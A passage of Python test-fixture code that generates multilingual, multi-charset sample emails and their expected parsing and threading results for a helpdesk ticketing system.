            "Le message d'erreur dit : « accès refusé ». Pouvez-vous vérifier mes droits ?\n\n"
            "Merci d'avance,\nÉlodie Marchand\nAtelier Cerise\n"
        ),
        contains=["je n'arrive plus à ouvrir la boîte partagée « commandes ».", "Élodie Marchand"],
        organisation=None,
        mailer="Tierpost 4.1 (fictional desktop client)",
        notes="Unknown domain: contact created without organisation, ticket in the unassigned queue.",
    )


@corpus_message
def charset_latin2() -> Built:
    return charset_message(
        "06_charset_iso8859_2_base64.eml",
        "ISO-8859-2 (Polish) body in base64; B-encoded ISO-8859-2 name and subject.",
        mid="5e6a9d10.2231@jaskolka.test",
        day=15,
        hour=10,
        minute=40,
        from_name="Łukasz Żmuda",
        from_address="lukasz.zmuda@jaskolka.test",
        name_encoding="B",
        subject="Drukarka sieciowa na drugim piętrze nie odpowiada",
        subject_encoding="B",
        charset="ISO-8859-2",
        cte="base64",
        body=(
            "Dzień dobry,\n\nDrukarka sieciowa na drugim piętrze nie odpowiada od wczoraj.\n"
            "Zażółć gęślą jaźń - tak wygląda wydruk testowy, więc sterownik chyba działa.\n\n"
            "Pozdrawiam,\nŁukasz Żmuda\n"
        ),
        contains=["Drukarka sieciowa na drugim piętrze nie odpowiada od wczoraj.", "Zażółć gęślą jaźń"],
        organisation="Drukarnia Jaskółka sp. z o.o.",
        mailer="Tierpost 4.1 (fictional desktop client)",
    )


@corpus_message
def charset_cp1250() -> Built:
    return charset_message(
        "07_charset_windows1250_qp.eml",
        "Windows-1250 (Czech) body in quoted-printable with „“ and – (not in ISO-8859-2); Q-encoded name/subject.",
        mid="001a01da17a3$5c2e1f00$148a5d00$@pivovar-liska.example",
        day=15,
        hour=11,
        minute=3,
        from_name="Ondřej Dvořák",
        from_address="ondrej.dvorak@pivovar-liska.example",
        name_encoding="Q",
        subject="Nefunguje přihlášení do účetního systému",
        subject_encoding="Q",
        charset="windows-1250",
        cte="quoted-printable",
        body=(
            "Dobrý den,\n\nod rána nefunguje přihlášení do účetního systému – hláška zní „neplatný certifikát“.\n"
            "Příliš žluťoučký kůň úpěl ďábelské ódy.\n\nS pozdravem\nOndřej Dvořák\n"
        ),
        contains=["hláška zní „neplatný certifikát“.", "Příliš žluťoučký kůň úpěl ďábelské ódy."],
        organisation=None,
        mailer="Outpost Mail 16.0 (fictional)",
        notes="Decoding this body as ISO-8859-2 instead of Windows-1250 garbles the quotes and the dash.",
    )


@corpus_message
def charset_cp1252() -> Built:
    return charset_message(
        "08_charset_windows1252_qp.eml",
        "Windows-1252 (Norwegian) body in quoted-printable with €, “ ”, … and –; Q subject, B name.",
        mid="000601da17a4$0b1c2d30$21354f90$@fjordlys.example",
        day=15,
        hour=11,
        minute=17,
        from_name="Kari Åsheim",
        from_address="kari.asheim@fjordlys.example",
        name_encoding="B",
        subject="Faktura på 1 250 € mangler – kan dere sjekke?",
        subject_encoding="Q",
        charset="windows-1252",
        cte="quoted-printable",
        body=(
            "Hei,\n\nFakturaen på 1 250 € for oktober mangler i portalen – står det “behandles” hos dere også?\n"
            "Vi har prøvd å laste ned på nytt…\n\nMed vennlig hilsen\nKari Åsheim\nFjordlys AS\n"
        ),
        contains=["Fakturaen på 1 250 € for oktober mangler i portalen – står det “behandles” hos dere også?"],
        organisation="Fjordlys AS",
        mailer="Outpost Mail 16.0 (fictional)",
        notes="Decoding as ISO-8859-1 instead of Windows-1252 loses € and the curly quotes.",
    )


@corpus_message
def charset_koi8r() -> Built:
    return charset_message(
        "09_charset_koi8r_base64.eml",
        "KOI8-R (Russian) body in base64; B-encoded KOI8-R name and subject; unknown sender domain.",
        mid="1700043600.271828@sever-veter.example",
        day=15,
        hour=11,
        minute=40,
        from_name="Светлана Орлова",
        from_address="s.orlova@sever-veter.example",
        name_encoding="B",
        subject="Не работает VPN-подключение",
        subject_encoding="B",
        charset="KOI8-R",
        cte="base64",
        body=(
            "Здравствуйте!\n\nС утра не работает VPN-подключение к складу. Ошибка 809.\n"
            "Съешь же ещё этих мягких французских булок, да выпей чаю.\n\nС уважением,\nСветлана Орлова\n"
        ),
        contains=["С утра не работает VPN-подключение к складу. Ошибка 809.", "Светлана Орлова"],
        organisation=None,
        mailer="Tierpost 4.1 (fictional desktop client)",
    )


@corpus_message
def charset_shift_jis() -> Built:
    return charset_message(
        "10_charset_shift_jis_base64.eml",
        "Shift_JIS (Japanese) body in base64; B-encoded Shift_JIS name and subject.",
        mid="20231115120412.8E3F.AOI@kumo-trading.example",
        day=15,
        hour=12,
        minute=4,
        from_name="山本 葵",
        from_address="aoi.yamamoto@kumo-trading.example",
        name_encoding="B",
        subject="請求書の再発行のお願い",
        subject_encoding="B",
        charset="Shift_JIS",
        cte="base64",
        body=(
            "サポートご担当者様\n\nいつもお世話になっております。\n"
            "十月分の請求書を再発行していただけますでしょうか。宛先の部署名が変わりました。\n\n"
            "よろしくお願いいたします。\n山本 葵\n"
        ),
        contains=["十月分の請求書を再発行していただけますでしょうか。", "山本 葵"],
        organisation="Kumo Trading KK",
        mailer="Tierpost 4.1 (fictional desktop client)",
    )


@corpus_message
def folded_subject() -> Built:
    mid = "9f8e7d6c5b4a@baeckerei-lindenhof.example"
    subject = (
        "Dringend: Kühlraum-Temperaturfühler in Filiale Südstadt meldet seit Montag falsche Werte – bitte Rückruf heute"
    )
    # Three encoded-words on three lines, the first B and the others Q: the whitespace between
    # adjacent encoded-words must disappear on decoding (RFC 2047 section 6.2).
    part1 = "Dringend: Kühlraum-Temperaturfühler "
    part2 = "in Filiale Südstadt meldet seit Montag "
    part3 = "falsche Werte – bitte Rückruf heute"
    encoded = "\n ".join(
        [_encode_chunk(part1, "utf-8", "B"), _encode_chunk(part2, "utf-8", "Q"), _encode_chunk(part3, "utf-8", "Q")]
    )
    body = (
        "Guten Tag,\n\nder Temperaturfühler im Kühlraum der Filiale Südstadt meldet seit Montag 14 °C,\n"
        "das Thermometer an der Tür zeigt 4 °C. Bitte rufen Sie mich heute zurück: 0221 555 0199.\n\n"
        "Mit freundlichen Grüßen\nJörg Müller-Weiß\n"
    )
    top = [
        *inbound(
            [
                received(
                    "mx1.desk.example",
                    "mail.baeckerei-lindenhof.example",
                    "198.51.100.99",
                    15,
                    12,
                    30,
                    11,
                    "4SVQ1k0Zt3z4aE",
                )
            ]
        ),
        ("Date", date(15, 12, 30, 2)),
        ("From", addr("Jörg Müller-Weiß", "j.mueller-weiss@baeckerei-lindenhof.example", "iso-8859-1", "Q")),
        ("To", f"Tierdesk Support <{SUPPORT}>"),
        ("Subject", encoded),
        ("Message-ID", f"<{mid}>"),
    ]
    name = "11_rfc2047_folded_subject.eml"
    return (
        name,
        message(top, text_part(body)),
        expect(
            name,
            "A long subject folded over three lines as adjacent encoded-words (one B, two Q); Q name in ISO-8859-1.",
            message_id=mid,
            outcome="new_ticket",
            subject=subject,
            from_address="j.mueller-weiss@baeckerei-lindenhof.example",
            from_name="Jörg Müller-Weiß",
            organisation="Bäckerei Lindenhof GmbH",
            text_contains=["der Temperaturfühler im Kühlraum der Filiale Südstadt meldet seit Montag 14 °C,"],
            notes="Decoded subject has single spaces where the folds are; no stray spaces between encoded-words.",
        ),
    )


EXCHANGE_HEADERS = [
    ("Thread-Topic", f"[TD#100042] {T42_SUBJECT}"),
    ("Thread-Index", "AQHaF6N8m1YvYtq2RUi0cLJr8qJ1XrB6c0gA"),
    ("Accept-Language", "en-US, nl-NL"),
    ("Content-Language", "en-US"),
    ("X-MS-Has-Attach", "yes"),
    ("X-MS-TNEF-Correlator", ""),
    ("X-MS-Exchange-Organization-SCL", "-1"),
    ("X-MS-Exchange-Organization-AuthSource", "EXCH01.corp.hollowbrook.example"),
    ("X-MS-Exchange-Organization-AuthAs", "Internal"),
    ("X-MS-Exchange-Organization-Network-Message-Id", "3b7e0d54-2c1a-4f7e-8e55-1a2b3c4d5e6f"),
    ("X-MS-Exchange-Transport-CrossTenantHeadersStamped", "EXCH01.corp.hollowbrook.example"),
    ("x-originating-ip", "[192.0.2.45]"),
]


@corpus_message
def reply_outlook() -> Built:
    mid = "AM0PR07MB6411C2B3E9F0A1B2C3D4E5F6A7B8C9D0@EXCH01.corp.hollowbrook.example"
    photo = png(40, 30, (240, 240, 240))
    fresh = (
        "Hi Marit,\n\n"
        'The display shows "LABEL OUT" even though a new roll is loaded. Photo attached.\n'
        "We load the 100x150 mm direct thermal labels, roll number 4471.\n\n"
        "Kind regards,\nAnna Verbeek\nHollowbrook Dairy - Dispatch\n\n"
    )
    history = (
        "-----Original Message-----\n"
        "From: Tierdesk Support <support@desk.example> \n"
        "Sent: Tuesday, November 14, 2023 11:13 PM\n"
        "To: Anna Verbeek <anna.verbeek@hollowbrook.example>\n"
        f"Subject: [TD#100042] {T42_SUBJECT}\n\n" + NOTIFICATION_42.format(name="Anna Verbeek")
    )
    html = f"""<html xmlns:o="urn:schemas-microsoft-com:office:office"><head>
<meta http-equiv="Content-Type" content="text/html; charset=us-ascii"><style><!-- p.MsoNormal {{margin:0cm;}} --></style></head>
<body lang="EN-US"><div class="WordSection1">
<p class="MsoNormal">Hi Marit,</p><p class="MsoNormal">&nbsp;</p>
<p class="MsoNormal">The display shows &quot;LABEL OUT&quot; even though a new roll is loaded. Photo attached.</p>
<p class="MsoNormal">We load the 100x150 mm direct thermal labels, roll number 4471.</p>
<p class="MsoNormal">&nbsp;</p><p class="MsoNormal">Kind regards,<br>Anna Verbeek<br>Hollowbrook Dairy - Dispatch</p>
<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">
<p class="MsoNormal"><b>From:</b> Tierdesk Support &lt;support@desk.example&gt; <br><b>Sent:</b> Tuesday, November 14, 2023 11:13 PM<br>
<b>To:</b> Anna Verbeek &lt;anna.verbeek@hollowbrook.example&gt;<br><b>Subject:</b> [TD#100042] {T42_SUBJECT}</p></div>
<p class="MsoNormal">Dear Anna Verbeek,</p>
<p class="MsoNormal">Could you please send us a photo of the printer's display and tell us which label roll is loaded?</p>
</div></body></html>
"""
    body = multipart(
        "mixed",
        "_004_AM0PR07MB6411C2B3E9F0A1B2_",
        [
            multipart(
                "alternative",
                "_000_AM0PR07MB6411C2B3E9F0A1B2_",
                [text_part(fresh + history, charset="us-ascii"), text_part(html, subtype="html", charset="us-ascii")],
            ),
            file_part(photo, "image/png", "image001.png"),
        ],
    )
    top = [
        ("Return-Path", "<anna.verbeek@hollowbrook.example>"),
        *inbound(HOLLOWBROOK_RECEIVED),
        ("From", addr("Anna Verbeek", "anna.verbeek@hollowbrook.example")),
        ("To", SUPPORT_FROM),
        ("Subject", f"RE: [TD#100042] {T42_SUBJECT}"),
        *EXCHANGE_HEADERS,
        ("Date", "Wed, 15 Nov 2023 09:14:03 +0000"),
        ("Message-ID", f"<{mid}>"),
        ("References", T42_REFS),
        ("In-Reply-To", f"<{T42_NOTE}>"),
    ]
    name = "12_reply_outlook_exchange.eml"
    return (
        name,
        message(top, body),
        expect(
            name,
            "Outlook/Exchange reply: '-----Original Message-----' + From/Sent/To/Subject block, Thread-Index and "
            "X-MS-Exchange-* headers, In-Reply-To our notification, a photo attached.",
            message_id=mid,
            outcome="comment",
            ticket_number=100042,
            subject=f"RE: [TD#100042] {T42_SUBJECT}",
            from_address="anna.verbeek@hollowbrook.example",
            from_name="Anna Verbeek",
            organisation="Hollowbrook Dairy",
            text_contains=['The display shows "LABEL OUT" even though a new roll is loaded.', "roll number 4471"],
            text_excludes=[
                "-----Original Message-----",
                "Sent: Tuesday, November 14, 2023 11:13 PM",
                "Could you please send us a photo of the printer's display",
                "Reply to this e-mail to add a comment to the ticket.",
            ],
            attachments=[attachment("image001.png", "image/png", photo)],
            notes="Matched by In-Reply-To/References (our Message-ID), not by the tag. The Thread-Index is not used for "
            "threading.",
        ),
    )


@corpus_message
def reply_gmail() -> Built:
    mid = "CAJx8mR3vTq0Q4pZ5n+KfT2eW9sLh7dN1uYb6o=Q0xE2kGq@mail.webmail.example"
    attribution = "On Tue, 14 Nov 2023 at 23:13, Tierdesk Support <support@desk.example> wrote:"
    fresh = (
        "Hi,\n\nSame problem on the second printer in cold storage since 08:00.\nSerial number CS-2291.\n\nSanne\n\n"
    )
    text = fresh + attribution + "\n\n" + quoted(NOTIFICATION_42.format(name="Sanne Bakker"))
    html = (
        '<div dir="ltr">Hi,<div><br></div><div>Same problem on the second printer in cold storage since 08:00.</div>'
        "<div>Serial number CS-2291.</div><div><br></div><div>Sanne</div></div><br>"
        '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Tue, 14 Nov 2023 at 23:13, Tierdesk Support '
        '&lt;<a href="mailto:support@desk.example">support@desk.example</a>&gt; wrote:<br></div>'
        '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);'
        'padding-left:1ex">Dear Sanne Bakker,<br><br>Could you please send us a photo of the printer&#39;s display '
        "and tell us which label roll is loaded?<br></blockquote></div>\n"
    )
    body = multipart(
        "alternative",
        "000000000000b4c1d8060a2f4e11",
        [text_part(text, charset="UTF-8"), text_part(html, "html", "UTF-8")],
    )
    top = [
        *inbound(
            [received("mx1.desk.example", "mail-gw.webmail.example", "192.0.2.200", 15, 9, 31, 40, "4SVQ1k0Zu4z5bF")]
        ),
        ("MIME-Version", "1.0"),
        ("References", T42_REFS),
        ("In-Reply-To", f"<{T42_NOTE}>"),
        ("From", addr("Sanne Bakker", "sanne.bakker@hollowbrook.example")),
        ("Date", date(15, 9, 31, 33)),
        ("Message-ID", f"<{mid}>"),
        ("Subject", f"Re: [TD#100042] {T42_SUBJECT}"),
        ("To", SUPPORT_FROM),
    ]
    name = "13_reply_gmail.eml"
    return (
        name,
        message(top, body, mime_version=False),
        expect(
            name,
            "Gmail-style reply: 'On <date>, <name> <addr> wrote:' and '> ' quoted lines; gmail_quote in HTML.",
            message_id=mid,
            outcome="comment",
            ticket_number=100042,
            subject=f"Re: [TD#100042] {T42_SUBJECT}",
            from_address="sanne.bakker@hollowbrook.example",
            from_name="Sanne Bakker",
            organisation="Hollowbrook Dairy",
            text_contains=["Same problem on the second printer in cold storage since 08:00.", "Serial number CS-2291."],
            text_excludes=[attribution, "> Could you please send us a photo", "Reply to this e-mail to add a comment"],
        ),
    )


@corpus_message
def reply_apple_mail() -> Built:
    mid = "4E1B7C2D-93A0-4F5E-8B6C-1D2E3F405162@hollowbrook.example"
    attribution = "On 14 Nov 2023, at 23:13, Tierdesk Support <support@desk.example> wrote:"
    fresh = "Hello,\n\nThe printer works again after the firmware reset. You can close the ticket.\n\nPieter\n\n"
    text = fresh + quoted(attribution + "\n\n" + NOTIFICATION_42.format(name="Pieter Jansen"))
    html = (
        '<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head>'
        '<body style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;">'
        "Hello,<div><br></div><div>The printer works again after the firmware reset. You can close the ticket.</div>"
        '<div><br></div><div>Pieter<br><div><br><blockquote type="cite"><div>On 14 Nov 2023, at 23:13, Tierdesk '
        'Support &lt;support@desk.example&gt; wrote:</div><br class="Apple-interchange-newline"><div><div>Dear '
        "Pieter Jansen,<br><br>Could you please send us a photo of the printer's display and tell us which label "
        "roll is loaded?<br></div></div></blockquote></div><br></div></body></html>\n"
    )
    boundary = "Apple-Mail=_2F3C9E1A-7B44-4D2B-9A51-0C6E8D1F2A37"
    body = multipart("alternative", boundary, [text_part(text, charset="utf-8"), text_part(html, "html", "utf-8")])
    top = [
        *inbound(
            [received("mx1.desk.example", "mail.hollowbrook.example", "198.51.100.23", 15, 10, 2, 19, "4SVQ1k0Zv5z6cG")]
        ),
        ("From", addr("Pieter Jansen", "p.jansen@hollowbrook.example")),
        ("Subject", f"Re: [TD#100042] {T42_SUBJECT}"),
        ("Date", date(15, 10, 2, 11)),
        ("References", T42_REFS),
        ("To", SUPPORT_FROM),
        ("In-Reply-To", f"<{T42_NOTE}>"),
        ("Message-Id", f"<{mid}>"),
        ("X-Mailer", "Orchard Mail (2.3774.200.91.1.1) (fictional)"),
    ]
    name = "14_reply_apple_mail.eml"
    raw = message(top, body)
    return (
        name,
        raw,
        expect(
            name,
            "Apple Mail reply: 'On <date>, at <time>, <name> wrote:' quoted with '> ' in text, blockquote type=cite in HTML.",
            message_id=mid,
            outcome="comment",
            ticket_number=100042,
            subject=f"Re: [TD#100042] {T42_SUBJECT}",
            from_address="p.jansen@hollowbrook.example",
            from_name="Pieter Jansen",
            organisation="Hollowbrook Dairy",
            text_contains=["The printer works again after the firmware reset. You can close the ticket."],
            text_excludes=["On 14 Nov 2023, at 23:13, Tierdesk Support", "> Could you please send us a photo"],
            notes="The header is spelled 'Message-Id' (Apple Mail's casing); header names are case-insensitive.",
        ),
    )


@corpus_message
def reply_aw_german() -> Built:
    mid = "000c01da17b0$7a8b9c00$6fa1d400$@baeckerei-lindenhof.example"
    fresh = (
        "Hallo,\n\nder Neustart hat nicht geholfen, die Kasse hängt weiterhin beim Logo.\n"
        "Können Sie sich per Fernwartung aufschalten? Wir sind bis 18 Uhr in der Filiale.\n\n"
        "Grüße\nJörg Müller-Weiß\n\n"
    )
    history = (
        "-----Ursprüngliche Nachricht-----\n"
        "Von: Tierdesk Support <support@desk.example> \n"
        "Gesendet: Mittwoch, 15. November 2023 08:02\n"
        "An: Jörg Müller-Weiß <j.mueller-weiss@baeckerei-lindenhof.example>\n"
        "Betreff: [TD#100063] Kassensystem startet nicht\n\n"
        "Guten Tag Jörg Müller-Weiß,\n\nbitte starten Sie die Kasse einmal komplett neu.\n"
    )
    top = [
        *inbound(
            [
                received(
                    "mx1.desk.example",
                    "mail.baeckerei-lindenhof.example",
                    "198.51.100.99",
                    15,
                    13,
                    1,
                    2,
                    "4SVQ1k0Zw6z7dH",
                )
            ]
        ),
        ("From", addr("Jörg Müller-Weiß", "j.mueller-weiss@baeckerei-lindenhof.example", "iso-8859-1", "Q")),
        ("To", addr("Tierdesk Support", SUPPORT)),
        ("References", f"<{T63_NOTE}>"),
        ("In-Reply-To", f"<{T63_NOTE}>"),
        ("Subject", "AW: [TD#100063] Kassensystem startet nicht"),
        ("Date", date(15, 13, 0, 55)),
        ("Message-ID", f"<{mid}>"),
        ("X-Mailer", "Outpost Mail 16.0 (fictional)"),
        ("Thread-Index", "AQHaF7B6h0Zl3oEWqkyQ6m0eY1v3Ng=="),
        ("Content-Language", "de"),
    ]
    name = "15_reply_prefix_aw_de.eml"
    return (
        name,
        message(top, text_part(fresh + history, charset="iso-8859-1")),
        expect(
            name,
            "German Outlook reply 'AW:' with '-----Ursprüngliche Nachricht-----' / Von/Gesendet/An/Betreff; ISO-8859-1.",
            message_id=mid,
            outcome="comment",
            ticket_number=100063,
            subject="AW: [TD#100063] Kassensystem startet nicht",
            from_address="j.mueller-weiss@baeckerei-lindenhof.example",
            from_name="Jörg Müller-Weiß",
            organisation="Bäckerei Lindenhof GmbH",
            text_contains=["der Neustart hat nicht geholfen, die Kasse hängt weiterhin beim Logo."],
            text_excludes=[
                "-----Ursprüngliche Nachricht-----",
                "Gesendet: Mittwoch, 15. November 2023 08:02",
                "bitte starten Sie die Kasse",
            ],
        ),
    )


@corpus_message
def reply_antw_dutch() -> Built:
    mid = "DB9PR02MB7345A1B2C3D4E5F6A7B8C9D0E1F2A3B4@DB9PR02MB7345.eurprd02.prod.mailcloud.example"
    fresh = "Hoi,\n\nIn de koelcel gebeurt precies hetzelfde, ook daar lege etiketten.\n\nGroet,\nRuud Hoekstra\n\n"
    history = (
        "________________________________\n"
        "Van: Tierdesk Support <support@desk.example>\n"
        "Verzonden: dinsdag 14 november 2023 23:13\n"
        "Aan: Sanne Bakker <sanne.bakker@hollowbrook.example>\n"
        "CC: Ruud Hoekstra <r.hoekstra@hollowbrook.example>\n"
        f"Onderwerp: [TD#100042] {T42_SUBJECT}\n\n" + NOTIFICATION_42.format(name="Sanne Bakker")
    )
    top = [
        *inbound(
            [
                received(
                    "mx1.desk.example",
                    "mail-db9pr02.outbound.mailcloud.example",
                    "192.0.2.71",
                    15,
                    10,
                    44,
                    8,
                    "4SVQ1k0Zx7z8eJ",
                )
            ]
        ),
        ("From", addr("Ruud Hoekstra", "r.hoekstra@hollowbrook.example")),
        ("To", addr("Tierdesk Support", SUPPORT)),
        ("Subject", f"Antw: [TD#100042] {T42_SUBJECT}"),
        ("Thread-Topic", f"[TD#100042] {T42_SUBJECT}"),
        ("Thread-Index", "AQHaF6N8m1YvYtq2RUi0cLJr8qJ1XrB6c0gAgAA3zQ=="),
        ("Date", "Wed, 15 Nov 2023 09:44:01 +0000"),
        ("Message-ID", f"<{mid}>"),
        ("References", T42_REFS),
        ("In-Reply-To", f"<{T42_NOTE}>"),
        ("Content-Language", "nl-NL"),
    ]
    name = "16_reply_prefix_antw_nl.eml"
    return (
        name,
        message(top, text_part(fresh + history, charset="iso-8859-1")),
        expect(
            name,
            "Dutch Outlook on the web reply 'Antw:' with underscore line and Van/Verzonden/Aan/Onderwerp block, from a "
            "CC'd member of the organisation who is not a ticket participant.",
            message_id=mid,
            outcome="comment",
            ticket_number=100042,
            subject=f"Antw: [TD#100042] {T42_SUBJECT}",
            from_address="r.hoekstra@hollowbrook.example",
            from_name="Ruud Hoekstra",
            organisation="Hollowbrook Dairy",
            text_contains=["In de koelcel gebeurt precies hetzelfde, ook daar lege etiketten."],
            text_excludes=["Verzonden: dinsdag 14 november 2023 23:13", "Could you please send us a photo"],
            notes="Matched by In-Reply-To; the sender may be added as a participant.",
        ),
    )


@corpus_message
def reply_sv_norwegian() -> Built:
    mid = "000d01da17b3$9c0d1e20$d4275a60$@fjordlys.example"
    subject = "SV: SV: [TD#100071] Skriveren på kontoret skriver ut tomme sider"
    fresh = "Hei igjen,\n\nNå skriver den ut, men bare i svart-hvitt. Er det en innstilling vi må endre?\n\nKari\n\n"
    history = (
        "Fra: Tierdesk Support <support@desk.example> \n"
        "Sendt: onsdag 15. november 2023 08:30\n"
        "Til: Kari Åsheim <kari.asheim@fjordlys.example>\n"
        "Emne: [TD#100071] Skriveren på kontoret skriver ut tomme sider\n\n"
        "Hei Kari Åsheim,\n\nvi har oppdatert driveren. Kan du prøve å skrive ut en testside?\n"
    )
    top = [
        *inbound(
            [received("mx1.desk.example", "smtp.fjordlys.example", "198.51.100.77", 15, 13, 20, 40, "4SVQ1k0Zy8z9fK")]
        ),
        ("From", addr("Kari Åsheim", "kari.asheim@fjordlys.example", "utf-8", "B")),
        ("To", addr("Tierdesk Support", SUPPORT)),
        ("Subject", ew(subject, "utf-8", "B")),
        ("Date", date(15, 13, 20, 31)),
        ("Message-ID", f"<{mid}>"),
        ("References", f"<{T71_NOTE}>"),
        ("In-Reply-To", f"<{T71_NOTE}>"),
        ("X-Mailer", "Outpost Mail 16.0 (fictional)"),
        ("Content-Language", "nb"),
    ]
    name = "17_reply_prefix_sv_no.eml"
    return (
        name,
        message(top, text_part(fresh + history)),
        expect(
            name,
            "Norwegian Outlook reply 'SV: SV:' (double prefix) with Fra/Sendt/Til/Emne block; B-encoded UTF-8 subject.",
            message_id=mid,
            outcome="comment",
            ticket_number=100071,
            subject=subject,
            from_address="kari.asheim@fjordlys.example",
            from_name="Kari Åsheim",
            organisation="Fjordlys AS",
            text_contains=["Nå skriver den ut, men bare i svart-hvitt. Er det en innstilling vi må endre?"],
            text_excludes=["Sendt: onsdag 15. november 2023 08:30", "vi har oppdatert driveren"],
        ),
    )


@corpus_message
def reply_odp_polish() -> Built:
    mid = "c3a1e0f2-5b6d-4e7f-8a9b-0c1d2e3f4a5b@jaskolka.test"
    subject = "Odp: [TD#100057] Błąd przy drukowaniu faktur"
    attribution = "W dniu 15.11.2023 o 08:53, Tierdesk Support pisze:"
    fresh = "Dzień dobry,\n\nbłąd nadal występuje, zrzut ekranu wyślę po południu.\n\nZofia Wróblewska\n\n"
    history = attribution + "\n" + quoted("Dzień dobry,\n\nczy błąd występuje na wszystkich stanowiskach?\n")
    top = [
        *inbound(
            [received("mx1.desk.example", "poczta.jaskolka.test", "198.51.100.61", 15, 14, 2, 9, "4SVQ1k0Zz9zAgL")]
        ),
        ("Message-ID", f"<{mid}>"),
        ("Date", date(15, 14, 2, 1)),
        ("MIME-Version", "1.0"),
        ("User-Agent", "Tierbird/115.4 (fictional)"),
        ("Subject", ew(subject, "ISO-8859-2", "Q")),
        ("Content-Language", "pl"),
        ("To", addr("Tierdesk Support", SUPPORT)),
        ("References", f"<{T57_NOTE}>"),
        ("From", addr("Zofia Wróblewska", "zofia.wroblewska@jaskolka.test", "ISO-8859-2", "Q")),
        ("In-Reply-To", f"<{T57_NOTE}>"),
    ]
    name = "18_reply_prefix_odp_pl.eml"
    part = text_part(fresh + history, charset="ISO-8859-2", params="; format=flowed")
    return (
        name,
        message(top, part, mime_version=False),
        expect(
            name,
            "Polish Thunderbird-style reply 'Odp:' with 'W dniu ..., ... pisze:' attribution; ISO-8859-2 QP, format=flowed.",
            message_id=mid,
            outcome="comment",
            ticket_number=100057,
            subject=subject,
            from_address="zofia.wroblewska@jaskolka.test",
            from_name="Zofia Wróblewska",
            organisation="Drukarnia Jaskółka sp. z o.o.",
            text_contains=["błąd nadal występuje, zrzut ekranu wyślę po południu."],
            text_excludes=[attribution, "czy błąd występuje na wszystkich stanowiskach?"],
        ),
    )


def tag_only_reply(
    name: str,
    description: str,
    from_name: str,
    from_address: str,
    organisation: str | None,
    outcome: str,
    day_minute: int,
    notes: str,
) -> Built:
    mid = f"tag-only-{day_minute}@{from_address.split('@')[1]}"
    subject = f"Re: [TD#100042] {T42_SUBJECT}"
    text = (
        "Hello,\n\nI copied the ticket number from the portal: the printer in dispatch is blank again this afternoon.\n\n"
        f"{from_name}\n"
    )
    top = [
        *inbound(
            [
                received(
                    "mx1.desk.example",
                    f"mail.{from_address.split('@')[1]}",
                    "198.51.100.150",
                    15,
                    15,
                    day_minute,
                    0,
                    f"4SVQ1k0ZT{day_minute}",
                )
            ]
        ),
        ("Date", date(15, 15, day_minute)),
        ("From", addr(from_name, from_address)),
        ("To", SUPPORT),
        ("Subject", subject),
        ("Message-ID", f"<{mid}>"),
    ]
    return (
        name,
        message(top, text_part(text, charset="us-ascii", cte="7bit")),
        expect(
            name,
            description,
            message_id=mid,
            outcome=outcome,
            ticket_number=100042 if outcome == "comment" else None,
            subject=subject,
            from_address=from_address,
            from_name=from_name,
            organisation=organisation,
            text_contains=["the printer in dispatch is blank again this afternoon."],
            notes=notes,
        ),
    )


@corpus_message
def tag_only_participant() -> Built:
    return tag_only_reply(
        "19_subject_tag_only_participant.eml",
        "Subject tag [TD#100042] but no In-Reply-To/References, from a participant of the ticket.",
        "Anna Verbeek",
        "anna.verbeek@hollowbrook.example",
        "Hollowbrook Dairy",
        "comment",
        5,
        "The tag alone attaches because the sender is a participant.",
    )


@corpus_message
def tag_only_stranger() -> Built:
    return tag_only_reply(
        "20_subject_tag_only_stranger.eml",
        "Subject tag [TD#100042] but no thread headers, from an unknown address: must NOT join the ticket.",
        "Max Ferrand",
        "max.ferrand@freemail.example",
        None,
        "new_ticket",
        9,
        "A subject tag alone attaches only for participants of the ticket or of its organisation; this sender is "
        "neither, so a new ticket in the unassigned queue (ticket 100042 unchanged).",
    )


FORWARDED_INVOICE = (
    "From: Accounts Payable <ap@kestrel-logistics.example>\n"
    "Date: Mon, 13 Nov 2023 16:40:12 +0100\n"
    "Subject: Invoice 2023-4471 does not match the order\n"
    "To: Jonas Berg <jonas.berg@kestrel-logistics.example>\n"
    "Message-ID: <ap-2023-4471@kestrel-logistics.example>\n"
    "MIME-Version: 1.0\n"
    'Content-Type: text/plain; charset="us-ascii"\n'
    "Content-Transfer-Encoding: 7bit\n"
    "\n"
    "Jonas,\n\nInvoice 2023-4471 lists 40 pallets but the order was for 36. Can IT check the portal export?\n\nAP\n"
)


@corpus_message
def forward_inline() -> Built:
    mid = "CAJx8mR4fWd2-inline-fwd@mail.kestrel-logistics.example"
    text = (
        "Hi support, see below: the portal export seems to double some lines. Can you check?\n\nJonas\n\n"
        "---------- Forwarded message ---------\n"
        "From: Accounts Payable <ap@kestrel-logistics.example>\n"
        "Date: Mon, 13 Nov 2023 at 16:40\n"
        "Subject: Invoice 2023-4471 does not match the order\n"
        "To: Jonas Berg <jonas.berg@kestrel-logistics.example>\n\n\n"
        "Jonas,\n\nInvoice 2023-4471 lists 40 pallets but the order was for 36. Can IT check the portal export?\n\nAP\n"
    )
    top = [
        *inbound(
            [
                received(
                    "mx1.desk.example", "out.kestrel-logistics.example", "203.0.113.14", 15, 14, 12, 0, "4SVQ1k0ZF1zBhM"
                )
            ]
        ),
        ("Date", date(15, 14, 11, 51)),
        ("From", addr("Jonas Berg", "jonas.berg@kestrel-logistics.example")),
        ("To", SUPPORT),
        ("Subject", "Fwd: Invoice 2023-4471 does not match the order"),
        ("Message-ID", f"<{mid}>"),
    ]
    name = "21_forward_inline.eml"
    return (
        name,
        message(top, text_part(text, charset="UTF-8")),
        expect(
            name,
            "Inline forward ('---------- Forwarded message ---------'): the forwarded content is the point and stays.",
            message_id=mid,
            outcome="new_ticket",
            subject="Fwd: Invoice 2023-4471 does not match the order",
            from_address="jonas.berg@kestrel-logistics.example",
            from_name="Jonas Berg",
            organisation="Kestrel Logistics",
            text_contains=[
                "the portal export seems to double some lines",
                "---------- Forwarded message ---------",
                "Invoice 2023-4471 lists 40 pallets but the order was for 36.",
            ],
            notes="Quote stripping must not remove a forwarded message: the ticket text keeps it.",
        ),
    )


@corpus_message
def forward_as_attachment() -> Built:
    mid = "AM9PR07MB7011D4E5F6A7B8C9@EXCH02.corp.kestrel-logistics.example"
    inner = crlf(FORWARDED_INVOICE).encode("ascii")
